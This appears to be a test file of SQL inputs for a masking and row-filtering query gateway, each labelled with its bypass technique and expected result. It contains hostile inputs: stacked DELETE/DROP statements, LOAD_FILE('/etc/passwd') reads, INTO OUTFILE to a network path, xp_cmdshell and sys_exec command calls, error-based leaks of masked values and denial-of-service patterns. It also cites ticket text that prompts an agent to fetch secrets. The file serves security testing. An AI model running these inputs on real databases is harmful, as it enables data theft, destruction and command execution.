SELECT LPAD(name, 60, '*'), RPAD(phone, 60, '*') FROM customers

-- masked column through an expression | safe
SELECT REGEXP_REPLACE(name, '^.', ''), REGEXP_SUBSTR(name, 'C.*') FROM customers

-- masked column through an expression | safe
SELECT INSERT(name, 1, 1, ''), REPLACE(name, '•', '') FROM customers

-- masked column through an expression | safe
SELECT JSON_OBJECT('n', name, 'p', phone), JSON_ARRAY(name), JSON_QUOTE(email) FROM customers

-- masked column through an expression | safe
SELECT JSON_ARRAYAGG(name), JSON_OBJECTAGG(id, phone) FROM customers

-- masked column through an expression | safe
SELECT JSON_EXTRACT(payload, '$.secret'), JSON_VALUE(payload, '$.secret'), JSON_KEYS(payload) FROM events

-- masked column through an expression | safe
SELECT JSON_SEARCH(payload, 'one', 'CANARY%') FROM events

-- masked column through an expression | safe
SELECT IF(name > 'B', phone, email), IFNULL(card_no, plate) FROM customers, payments, vehicles LIMIT 50

-- masked column through an expression | safe
SELECT FIRST_VALUE(name) OVER (ORDER BY id), NTH_VALUE(phone, 2) OVER (ORDER BY id) FROM customers

-- masked column through an expression | safe
SELECT LAG(email) OVER (ORDER BY id) FROM customers

-- masked column through an expression | safe
SELECT YEAR(birth_date), MONTH(birth_date), DAYOFMONTH(birth_date), TO_DAYS(birth_date), DATE_FORMAT(birth_date, '%Y-%m-%d') FROM customers

-- masked column through an expression | safe
SELECT DATEDIFF(birth_date, '1700-01-01'), TIMESTAMPDIFF(DAY, '1700-01-01', birth_date) FROM customers

-- masked column through an expression | safe
SELECT salary + 0, salary % 1000, SUM(salary), AVG(salary), STD(salary), VARIANCE(salary), BIT_XOR(salary) FROM employees

-- masked column through an expression | safe
SELECT salary FROM employees ORDER BY salary

-- masked column through an expression | safe
SELECT MAX(salary) - MIN(salary) FROM employees

-- masked column through an expression | safe
SELECT INET_ATON(phone), ORD(name), ASCII(email), CHAR_LENGTH(name), LENGTH(phone), BIT_LENGTH(email) FROM customers

-- masked column through an expression | safe
SELECT SOUNDEX(name), MD5(name), SHA2(name, 256), CRC32(phone) FROM customers

-- masked column through an expression | safe
SELECT ELT(1, name), FIELD(name, 'x'), FIND_IN_SET('x', name), LOCATE('CANARY', name), POSITION('CANARY' IN name), INSTR(name, 'CANARY') FROM customers

-- masked column through an expression | safe
SELECT STRCMP(name, phone), GREATEST(name, phone), LEAST(name, email), NULLIF(name, '') FROM customers

-- masked column through an expression | safe
SELECT name FROM customers UNION SELECT card_no FROM payments UNION SELECT body FROM tickets

-- masked column through an expression | safe
SELECT * FROM customers NATURAL JOIN orders

-- masked column through an expression | safe
SELECT a.name, b.phone FROM customers a JOIN customers b USING (id)

-- masked column through an expression | safe
SELECT name AS token, phone AS password_hash FROM customers

-- masked column through an expression | safe
SELECT DISTINCT name, ssn FROM customers

-- masked column through an expression | safe
SELECT ssn FROM customers ORDER BY ssn

-- masked column through an expression | safe
SELECT name, COUNT(*) FROM customers GROUP BY name WITH ROLLUP

-- masked column through an expression | safe
SELECT ANY_VALUE(name) FROM customers

-- masked column through an expression | safe
SELECT TRIM(LEADING 'A' FROM name), TRIM(BOTH FROM phone) FROM customers

-- masked column through an expression | safe
SELECT name + 0, phone * 1, email | 0, ~name FROM customers

-- masked column through an expression | safe
SELECT name <=> phone, name XOR phone FROM customers

-- masked column through an expression | safe
SELECT SUBSTRING_INDEX(email, '@', 1), SUBSTRING_INDEX(name, ' ', -1) FROM customers

-- masked column through an expression | safe
SELECT FORMAT(salary, 2), CONV(salary, 10, 2), BIN(salary), OCT(salary), HEX(salary) FROM employees

-- guessing behind the mask | no-rows
SELECT COUNT(*) FROM customers WHERE name RLIKE 'CANARY'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name REGEXP '^Ada C'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE BINARY name = 'Ada CANARYname1 Lovelace'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name COLLATE utf8mb4_bin = 'Ada CANARYname1 Lovelace'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE MD5(name) = MD5('Ada CANARYname1 Lovelace')

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE LOCATE('CANARY', name) > 0

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name <=> 'Ada CANARYname1 Lovelace'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE HEX(name) LIKE CONCAT(HEX('Ada CANARY'), '%')

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE SUBSTRING(name, 5, 6) = 'CANARY'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE STRCMP(name, 'Ada CANARYname1 Lovelace') = 0

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE 'Ada CANARYname1 Lovelace' IN (name, phone)

-- guessing behind the mask | no-rows
SELECT id FROM customers HAVING MAX(name) = 'Ada CANARYname1 Lovelace'

-- guessing behind the mask | no-rows
SELECT id FROM events WHERE JSON_CONTAINS(payload, '"CANARYpayload1"', '$.secret')

-- guessing behind the mask | no-rows
SELECT id FROM events WHERE payload LIKE '%CANARY%'

-- guessing behind the mask | no-rows
SELECT id FROM payments WHERE card_no RLIKE '^4111'

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE salary BETWEEN 7000001 AND 7000999

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE salary % 1000000 <> 0

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE DATE_FORMAT(birth_date, '%m-%d') <> '01-01'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE birth_date = DATE '1800-02-07'

-- guessing behind the mask | no-rows
SELECT id FROM customers c WHERE EXISTS (SELECT 1 FROM (SELECT 'Ada CANARYname1 Lovelace' AS n) AS v WHERE v.n = c.name)

-- guessing behind the mask | no-rows
SELECT a.id FROM customers a JOIN employees e ON e.name = a.name

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE FIND_IN_SET(name, 'Ada CANARYname1 Lovelace')

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name LIKE 'Ada CANARY%' ESCAPE '!'

-- guessing behind the mask | no-rows
SELECT id FROM tickets WHERE CONCAT(body, '') LIKE '%ignore%'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE CASE name WHEN 'Ada CANARYname1 Lovelace' THEN 1 ELSE 0 END

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE IF(name LIKE '%CANARY%', 1, 0)

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE phone + 0 = 49

-- guessing behind the mask | no-rows
SELECT id FROM vehicles WHERE ORD(SUBSTRING(plate, 2, 1)) = 65

-- error text | safe
SELECT EXP(1000)

-- error text | safe
SELECT CAST(name AS SIGNED) FROM customers

-- error text | safe
SELECT CAST(phone AS DATE) FROM customers

-- error text | safe
SELECT 9223372036854775807 + id FROM customers

-- error text | safe
SELECT POW(10, 400)

-- error text | safe
SELECT (SELECT name FROM customers)

-- error text | safe
SELECT JSON_EXTRACT(name, '$.x') FROM customers

-- error text | safe
SELECT JSON_EXTRACT('{}', name) FROM customers

-- error text | safe
SELECT ST_X(name) FROM customers

-- error text | safe
SELECT name RLIKE '(' FROM customers

-- error text | safe
SELECT 'x' RLIKE name FROM customers

-- error text | safe
SELECT REGEXP_REPLACE(name, '(', '') FROM customers

-- error text | safe
SELECT STR_TO_DATE(name, '%Y') FROM customers

-- error text | safe
SELECT CONVERT(name, SIGNED) FROM customers

-- error text | safe
SELECT COT(0)

-- error text | safe
SELECT ~0 + 1

-- error text | safe
SELECT -(-9223372036854775807 - 2)

-- error text | safe
SELECT COUNT(*), CONCAT(name, FLOOR(RAND(0) * 2)) AS x FROM customers GROUP BY x

-- error text | safe
SELECT id FROM customers WHERE id = (SELECT id FROM orders)

-- error text | safe
SELECT ROW(1, 2) = ROW(1, (SELECT name FROM customers))

-- error text | safe
SELECT CHAR_LENGTH(REPEAT(name, 100000)) FROM customers

-- error text | safe
SELECT GROUP_CONCAT(name, name, name) FROM customers a, customers b

-- error text | safe
SELECT UNHEX(name), FROM_BASE64(phone) FROM customers

-- error text | safe
SELECT JSON_ARRAY(name) + 0 FROM customers

-- error text | safe
SELECT INET_NTOA(-1), INET6_ATON(name) FROM customers

-- row filter | european-no-rows
SELECT id FROM customers WHERE region = 'us'

-- row filter | european-no-rows
SELECT COUNT(*) FROM customers WHERE region LIKE 'A%'

-- row filter | european-no-rows
SELECT id FROM customers WHERE region = 'US '

-- row filter | european-no-rows
SELECT id FROM customers WHERE NOT (region <=> 'EU')

-- row filter | european-no-rows
SELECT id FROM customers WHERE region <> 'EU' OR region IS NULL

-- row filter | european-no-rows
SELECT id FROM customers WHERE region RLIKE 'US'

-- row filter | european-no-rows
SELECT region FROM customers GROUP BY region HAVING region <> 'EU'

-- row filter | european-no-rows
SELECT id FROM customers WHERE id IN (SELECT id FROM customers WHERE region = 'APAC')

-- row filter | european-answers
SELECT id FROM customers WHERE EXP(IF(region = 'US', 1000, 1)) > 0

-- row filter | european-answers
SELECT id FROM customers WHERE IF(region = 'US', 9223372036854775807 + id, 1) = 1

-- row filter | european-answers
SELECT id FROM customers WHERE CASE WHEN region = 'APAC' THEN (SELECT id FROM orders) ELSE 1 END = 1

-- row filter | european-answers
SELECT id FROM customers WHERE POW(IF(region = 'US', 10, 1), 400) = 1

-- row filter | european-answers
SELECT id FROM customers WHERE JSON_EXTRACT(IF(region = 'US', '{', '{}'), '$') IS NOT NULL

-- row filter | european-answers
SELECT id FROM customers WHERE 'x' RLIKE IF(region = 'US', '(', 'x')

-- row filter | european-answers
SELECT id FROM customers WHERE ~0 + IF(region = 'US', 1, 0) > 0

-- too large, too deep | safe
SELECT COUNT(*) FROM orders a, orders b, orders c

-- too large, too deep | safe
WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n) SELECT COUNT(*) FROM n

-- too large, too deep | safe
WITH RECURSIVE n AS (SELECT 1 AS i, 'xxxxxxxxxxxxxxxx' AS s UNION ALL SELECT i + 1, CONCAT(s, s) FROM n) SELECT COUNT(*) FROM n

-- too large, too deep | safe
SELECT REPEAT('x', 1000000000)

-- too large, too deep | safe
SELECT SPACE(1000000000)

-- too large, too deep | safe
SELECT LPAD('x', 1000000000, 'y')

-- too large, too deep | safe
SELECT 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' RLIKE '(a+)+$b'

-- too large, too deep | safe
SELECT 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' RLIKE '^(a|a)*$'

-- too large, too deep | safe
SELECT GROUP_CONCAT(a.note) FROM orders a, orders b

-- too large, too deep | safe
SELECT CONCAT(REPEAT('x', 16000000), REPEAT('y', 16000000))

-- too large, too deep | safe
SELECT JSON_ARRAY(REPEAT('x', 9000000))

-- too large, too deep | safe
SELECT UNHEX(REPEAT('41', 8000000))

-- parameters | bad-params,safe,syntax,not-supported
SELECT ?, ?

-- parameters | bad-params,safe,syntax,not-supported
SELECT ?1

-- parameters | bad-params,safe,syntax,not-supported
SELECT $2

-- parameters | bad-params,safe,syntax,not-supported
SELECT :x

-- parameters | bad-params,safe,syntax,not-supported
SELECT id FROM customers WHERE id = ? AND name = ?1

-- known elsewhere: COMMIT ends the read-only transaction | many-statements,not-a-select,syntax
COMMIT; DELETE FROM orders; BEGIN

-- known elsewhere: COMMIT behind a comment that hides the first word | many-statements,not-a-select,syntax
/* report */ COMMIT; /* report */ DELETE FROM orders

-- known elsewhere: COMMIT behind a comment that hides the first word | many-statements,not-a-select,syntax
-- report
COMMIT; DELETE FROM orders

-- known elsewhere: a caller asks for a writable transaction | many-statements,not-a-select,not-supported,syntax
START TRANSACTION READ WRITE; SELECT 1

-- known elsewhere: a caller asks for a writable transaction | many-statements,not-a-select,not-supported,syntax
SET SESSION TRANSACTION READ WRITE

-- known elsewhere: a write that begins like a query | not-a-select,not-supported,syntax,many-statements,unknown-name
WITH gone AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM gone

-- known elsewhere: a write that begins like a query | not-a-select,not-supported,syntax,many-statements,unknown-name
SELECT 1 UNION DELETE FROM orders

-- known elsewhere: a write that begins like a query | not-a-select,not-supported,syntax,many-statements,unknown-name
(DELETE FROM orders)

-- known elsewhere: a write that begins like a query | not-a-select,not-supported,syntax,many-statements,unknown-name
SELECT * FROM (UPDATE orders SET total = 0) AS x

-- known elsewhere: a function is checked in the select list and not in FROM | function-refused,not-supported,unknown-name,syntax
SELECT * FROM LOAD_FILE('/etc/passwd') AS f

-- known elsewhere: a function is checked in the select list and not in FROM | function-refused,not-supported,unknown-name,syntax
SELECT * FROM JSON_TABLE(LOAD_FILE('/etc/passwd'), '$[*]' COLUMNS (a INT PATH '$')) AS f

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
SELECTED FROM orders; DELETE FROM orders

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
/* SELECT */ DELETE FROM orders

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
-- SELECT
DELETE FROM orders

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
(((SELECT 1))); DROP TABLE orders

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
   
	DELETE FROM orders

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
EXPLAIN ANALYZE DELETE FROM orders

-- known elsewhere: two dashes without a blank hide a statement | safe
SELECT 1--1; DELETE FROM orders

-- known elsewhere: two dashes without a blank hide a statement | safe
SELECT id FROM orders WHERE id = 3--1

-- known elsewhere: a statement that commits by itself | not-a-select,not-supported,syntax,many-statements
CREATE TABLE t (a int); SELECT 1

-- known elsewhere: a statement that commits by itself | not-a-select,not-supported,syntax,many-statements
ALTER TABLE orders ADD COLUMN x int

-- known elsewhere: a row limit got round by CTE, subquery or one large cell | safe
WITH big AS (SELECT a.id FROM orders a, customers b LIMIT 100000) SELECT * FROM big

-- known elsewhere: a row limit got round by CTE, subquery or one large cell | safe
SELECT * FROM (SELECT a.id, b.name FROM orders a, customers b LIMIT 100000) AS x

-- known elsewhere: a row limit got round by CTE, subquery or one large cell | safe
SELECT JSON_ARRAYAGG(b.name) FROM orders a, customers b

-- known elsewhere: a function that writes inside a read-only transaction | function-refused,not-supported,unknown-name
SELECT GET_LOCK('postern', 100), RELEASE_ALL_LOCKS()

-- known elsewhere: a read-only transaction does not stop reach | function-refused,not-supported,unknown-name,not-a-select,syntax
SELECT name FROM products INTO OUTFILE '//10.0.0.1/x'

-- known elsewhere: a command function inside a SELECT | function-refused,not-supported,unknown-name
SELECT qcmdexc('DSPLIB QSYS')

-- known elsewhere: a command function inside a SELECT | function-refused,not-supported,unknown-name
SELECT name FROM products WHERE sys_exec('id') = 0

-- known elsewhere: a command function inside a SELECT | function-refused,not-supported,unknown-name
SELECT id FROM products ORDER BY system('id')

-- known elsewhere: a command function inside a SELECT | function-refused,not-supported,unknown-name
SELECT xp_cmdshell('dir')

-- known elsewhere: trailing dashes swallow what the server adds | safe
SELECT id FROM customers WHERE id = 1 --

-- known elsewhere: trailing dashes swallow what the server adds | safe
SELECT id FROM customers LIMIT 100000 --

-- known elsewhere: trailing dashes swallow what the server adds | safe
SELECT id FROM customers WHERE region = 'EU') --

-- known elsewhere: text in a ticket tells the agent to fetch secrets | safe
SELECT body FROM tickets ORDER BY opened_at DESC LIMIT 5

-- known elsewhere: text in a ticket tells the agent to fetch secrets | safe
SELECT t.body, c.name, c.email, c.ssn FROM tickets t JOIN customers c ON c.id = t.customer_id

-- known elsewhere: a masked column asked in WHERE | no-rows
SELECT id FROM customers WHERE name LIKE 'Ada CANARYname7%'

-- known elsewhere: a masked column asked in WHERE | no-rows
SELECT id FROM employees WHERE salary BETWEEN 7000005 AND 7000015

-- known elsewhere: a masked column asked in WHERE | no-rows
SELECT id FROM employees WHERE salary >= 7000001 AND salary < 7000440

-- known elsewhere: a masked value in the text of an error | safe
SELECT CAST(name AS DECIMAL(5,2)), JSON_EXTRACT(phone, '$'), STR_TO_DATE(email, '%Y') FROM customers

-- known elsewhere: a mask written back over the real value | not-a-select,not-supported,syntax,unknown-name
UPDATE customers SET name = (SELECT name FROM customers WHERE id = 1) WHERE id = 1

-- known elsewhere: a mask written back over the real value | not-a-select,not-supported,syntax,unknown-name
INSERT INTO customers SELECT * FROM customers

-- known elsewhere: an alias or a concatenation defeats masks by name | safe
SELECT name AS city, phone AS region, email AS id FROM customers

-- known elsewhere: an alias or a concatenation defeats masks by name | safe
SELECT city AS name, id AS phone FROM customers

-- known elsewhere: an alias or a concatenation defeats masks by name | safe
SELECT CONCAT('', name, ''), CONCAT_WS('', phone, email) AS y FROM customers

-- known elsewhere: a rewriting misses subqueries and joins | safe
SELECT (SELECT name FROM customers c WHERE c.id = o.customer_id) AS n, o.id FROM orders o

-- known elsewhere: a rewriting misses subqueries and joins | safe
SELECT o.id, c.name, c.phone FROM orders o LEFT JOIN (SELECT * FROM customers) AS c ON c.id = o.customer_id

-- known elsewhere: a rewriting misses subqueries and joins | safe
SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id AND c.name LIKE '%' ORDER BY (SELECT x.phone FROM customers x WHERE x.id = c.id)

-- known elsewhere: a rewriting misses subqueries and joins | safe
SELECT * FROM customers a JOIN (SELECT b.id, b.name AS other FROM customers b JOIN (SELECT id FROM customers) AS c ON c.id = b.id) AS d ON d.id = a.id

-- known elsewhere: an aggregate skips the rules of columns | safe
SELECT min(name), max(phone), count(ssn), max(card_no), min(payload) FROM customers, payments, events WHERE customers.id = payments.id AND payments.id = events.id

-- known elsewhere: an aggregate skips the rules of columns | safe
SELECT GROUP_CONCAT(name), MAX(phone), JSON_ARRAYAGG(email) FROM customers

-- known elsewhere: a column hidden from the role named by an aggregate's star | unknown-name,not-supported,function-refused,syntax
SELECT argMax(*, token) FROM customers

-- known elsewhere: a column hidden from the role named by an aggregate's star | unknown-name,not-supported,function-refused,syntax
SELECT count(customers.token) FROM customers

-- known elsewhere: a column hidden from the role named by an aggregate's star | unknown-name,not-supported,function-refused,syntax
SELECT max(c.token) OVER (PARTITION BY c.city) FROM customers c

-- known elsewhere: the list of tables shows what the role may not read | unknown-name,not-supported,function-refused,not-a-select,syntax
SELECT table_name, column_name FROM information_schema.columns WHERE column_name LIKE '%hash%'

-- known elsewhere: a condition that is always true opens all rows | european-no-rows
SELECT id FROM customers WHERE (region = 'EU' OR 1 = 1) AND (region <> 'EU' OR region IS NULL)

-- known elsewhere: a condition that is always true opens all rows | european-no-rows
SELECT id FROM customers WHERE region = 'EU' AND 1 = 2 OR region = 'US'

-- known elsewhere: a condition that is always true opens all rows | european-no-rows
SELECT id FROM customers WHERE region = 'EU' OR region = 'US' EXCEPT SELECT id FROM customers WHERE region = 'EU'

-- known elsewhere: a condition that is always true opens all rows | european-no-rows
SELECT c.id FROM customers c, customers d WHERE c.region <> d.region

-- known elsewhere: state of one session met in the next | not-a-select,not-supported,syntax,function-refused,unknown-name,many-statements
SET @role = 'admin'

-- known elsewhere: state of one session met in the next | not-a-select,not-supported,syntax,function-refused,unknown-name,many-statements
SELECT @role := 'admin'

-- known elsewhere: the mask's own functions as a way up | function-refused,not-supported,unknown-name,not-a-select,syntax
SELECT anon.partial(name, 1, 'x', 1) FROM customers

-- known elsewhere: the mask's own functions as a way up | function-refused,not-supported,unknown-name,not-a-select,syntax
SELECT postern_hash(name) FROM customers

-- known elsewhere: the mask's own functions as a way up | function-refused,not-supported,unknown-name,not-a-select,syntax
SELECT postern_initials(name, '') FROM customers

-- known elsewhere: a function in the select list hides a write | function-refused,not-supported,unknown-name
SELECT LAST_INSERT_ID(id), UUID_SHORT() FROM products

-- known elsewhere: masks stop after a thousand rows | safe
SELECT c.name, c.phone, c.email, c.ssn, c.birth_date FROM customers c, products p WHERE p.id <= 8

-- known elsewhere: masks stop after a thousand rows | safe
SELECT o.note, t.body FROM orders o, tickets t WHERE t.customer_id < 3

-- known elsewhere: masks stop after a thousand rows | safe
SELECT p.card_no, e.payload FROM payments p, events e WHERE e.id IN (1, 2)

-- known elsewhere: SQL inside a string | function-refused,not-supported,unknown-name,not-a-select,syntax
PREPARE p FROM 'SELECT token FROM customers'

-- known elsewhere: the client's own commands taken for a statement | syntax,not-supported,not-a-select,unknown-name
\c postgres

-- known elsewhere: the client's own commands taken for a statement | syntax,not-supported,not-a-select,unknown-name
\! id

-- known elsewhere: the client's own commands taken for a statement | syntax,not-supported,not-a-select,unknown-name
\G

-- known elsewhere: the client's own commands taken for a statement | syntax,not-supported,not-a-select,unknown-name
DELIMITER //

-- very deep or very long | safe
SELECT «32000×(»1«32000×)»

-- very deep or very long | safe
SELECT id FROM customers WHERE «300×(»id = 1«300×)»

-- very deep or very long | safe
SELECT id FROM customers WHERE id = 0«7000× OR id=1»

-- very deep or very long | safe
SELECT 1«10000×+1»

-- very deep or very long | safe
SELECT 1«4000× UNION SELECT 1»

-- very deep or very long | safe
SELECT id FROM customers WHERE id IN (1«10000×,1»)

-- very deep or very long | safe
SELECT «400×CASE WHEN 1=1 THEN »1«400× END»

-- very deep or very long | safe
SELECT «10000×NOT »true

-- very deep or very long | safe
SELECT 1 FROM products p0«200× JOIN products p{n+1} ON p{n+1}.id = p0.id»

-- very deep or very long | safe
WITH c0 AS (SELECT * FROM customers)«300×, c{n+1} AS (SELECT * FROM c{n})» SELECT token FROM c300

-- very deep or very long | safe
SELECT «5000×customers.»id FROM customers

-- very deep or very long | safe
SELECT «500×abs(»1«500×)»

-- very deep or very long | safe
SELECT id«10000×, id» FROM customers

-- very deep or very long | safe
SELECT «10000×/**/»1

-- very deep or very long | safe
SELECT «10000×- »1

-- very deep or very long | safe
SELECT `«60000×x»` FROM customers

-- very deep or very long | safe
SELECT '«60000×x»' FROM customers WHERE id = 1

-- hidden column through another word | unknown-name
TABLE credentials

-- hidden column through another word | unknown-name
SELECT token FROM (TABLE customers) AS t

-- hidden column through another word | unknown-name
TABLE mysql.user

-- masked column through another word | no-rows
SELECT id FROM (TABLE customers) AS t WHERE name LIKE '%CANARY%'

-- filtered row through another word | european-no-rows
SELECT id FROM (TABLE customers) AS t WHERE region = 'US'

-- hidden table through a join | unknown-name
SELECT c.id FROM customers c STRAIGHT_JOIN credentials k ON k.id = c.id

-- hidden column through a join | unknown-name
SELECT c.id FROM customers c CROSS JOIN orders o ON c.token = 'x'

-- masked column through a join | no-rows
SELECT c.id FROM customers c CROSS JOIN orders o ON o.customer_id = c.id AND c.name LIKE '%CANARY%'

-- masked column through a join | no-rows
SELECT c.id FROM customers c STRAIGHT_JOIN orders o ON o.customer_id = c.id AND c.phone LIKE '%CANARY%'

-- filtered row through a join | european-no-rows
SELECT c.id FROM customers c STRAIGHT_JOIN orders o ON o.customer_id = c.id WHERE c.region = 'US'

-- name of an index | safe
SELECT id FROM customers USE INDEX (no_such_index) WHERE id = 1

-- name of an index | safe
SELECT id FROM customers FORCE INDEX (PRIMARY, secret_idx) WHERE id = 1

-- name of an index | unknown-name
SELECT id FROM customers FORCE INDEX FOR JOIN (PRIMARY) WHERE token = 'x'

-- name of an index | unknown-name
SELECT id FROM credentials IGNORE KEY (PRIMARY)

-- hidden column through FETCH | syntax,not-supported
SELECT id FROM customers FETCH FIRST (SELECT LENGTH(token) FROM customers) ROWS ONLY

-- hidden column through a unit | unknown-name
SELECT EXTRACT(YEAR_MONTH FROM token) FROM customers

-- hidden column through a unit | unknown-name
SELECT DATE_ADD('2026-01-01', INTERVAL token DAY_HOUR) FROM customers

-- masked column through a unit | safe
SELECT EXTRACT(YEAR_MONTH FROM birth_date), DATE_ADD('2026-01-01', INTERVAL name DAY_HOUR) FROM customers

-- unknown unit | not-supported,syntax
SELECT EXTRACT(`YEAR_MONTH FROM token` FROM created_at) FROM customers

-- unknown unit | not-supported,syntax
SELECT DATE_ADD('2026-01-01', INTERVAL 1 TOKEN)

-- forbidden function through a unit | function-refused
SELECT DATE_ADD('2026-01-01', INTERVAL SLEEP(1) MINUTE_SECOND)

-- hidden column through OR | unknown-name
SELECT id FROM customers WHERE id = 1 || token LIKE 'CANARY%'

-- masked column through OR | no-rows
SELECT id FROM customers WHERE name LIKE '%CANARY%' || phone LIKE '%CANARY%'

-- filtered row through OR | european-no-rows
SELECT id FROM customers WHERE region = 'US' || region = 'APAC'

-- filtered row through OR | european-no-rows
SELECT id FROM customers WHERE (1 || 1) AND region = 'US'

-- hidden column through VALUES | unknown-name
VALUES ((SELECT MAX(token) FROM customers))

-- hidden column through VALUES | unknown-name
SELECT * FROM customers c WHERE EXISTS (VALUES (c.token))

-- forbidden function through VALUES | function-refused
VALUES ROW(SLEEP(1)), ROW(LOAD_FILE('/etc/passwd'))

-- masked column through VALUES | safe
SELECT id, (VALUES (name)) AS n FROM customers

-- masked column through VALUES | safe
VALUES ROW((SELECT MAX(name) FROM customers), (SELECT MIN(phone) FROM customers))

-- forbidden function through VALUES | syntax
VALUES (1), (2, 3)

-- hidden column through USING | unknown-name
SELECT * FROM customers a RIGHT JOIN customers b USING (token)

-- masked column through USING | safe
SELECT * FROM (SELECT name, phone FROM customers) a RIGHT JOIN (SELECT phone, name FROM customers) b USING (name)

-- modifier that does more | not-supported
SELECT HIGH_PRIORITY id FROM customers

-- modifier that does more | not-supported
SELECT SQL_CALC_FOUND_ROWS id FROM customers

-- a number in another form | not-supported
SELECT 0x10 + 1

-- LATERAL where the server has none | not-supported
SELECT c.id, x.n FROM customers c, LATERAL (SELECT MAX(o.total) AS n FROM orders o WHERE o.customer_id = c.id) AS x

-- LATERAL where the server has none | not-supported,unknown-name
SELECT c.id, x.t FROM customers c LEFT JOIN LATERAL (SELECT c.token AS t) AS x ON TRUE
